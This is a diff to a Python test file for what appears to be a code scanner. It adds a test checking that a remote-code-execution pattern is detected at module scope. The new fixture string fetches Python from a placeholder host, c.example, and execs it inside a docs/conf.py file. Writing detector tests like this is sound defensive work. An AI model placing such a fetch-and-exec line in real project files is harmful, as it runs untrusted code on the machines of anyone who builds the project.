@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import pytest
 
-from tests.test_code_facts import found, init
+from tests.test_code_facts import found, init, seen
 
 SERVER = """
 import socket, sys
@@ -185,3 +185,9 @@ def _elf(kind: int, segments: int) -> str:
 def test_an_object_file_that_a_test_links(path: str, kind: int, segments: int, told: bool) -> None:
     text = f"PART = bytes.fromhex({_elf(kind, segments)!r})\n"
     assert ("MLS-C025" in found({**init(""), path: text})) is told
+
+
+def test_what_runs_whole_is_called_the_module() -> None:
+    text = "import urllib.request\nexec(urllib.request.urlopen('https://c.example/settings.py').read())\n"
+    scopes = {fact.scope for fact in seen({**init(""), "docs/conf.py": text}) if fact.behaviour == "runs-downloaded"}
+    assert scopes == {"the module"}
